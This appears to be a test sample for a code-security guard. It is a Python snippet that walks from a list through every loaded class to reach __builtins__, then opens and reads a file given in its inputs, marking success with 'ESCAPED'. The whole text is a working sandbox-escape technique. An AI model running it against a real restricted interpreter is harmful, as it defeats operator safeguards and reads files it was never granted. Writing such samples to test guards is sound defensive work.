# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: the classic walk from a list to every loaded class
for kind in [].__class__.__base__.__subclasses__():
    names = getattr(kind.__init__, "__globals__", {})
    if "__builtins__" in names:
        table = names["__builtins__"]
        table = table if isinstance(table, dict) else vars(table)
        return "ESCAPED " + table["open"](inputs["file"]).read()
raise PermissionError(1, "no class led anywhere")
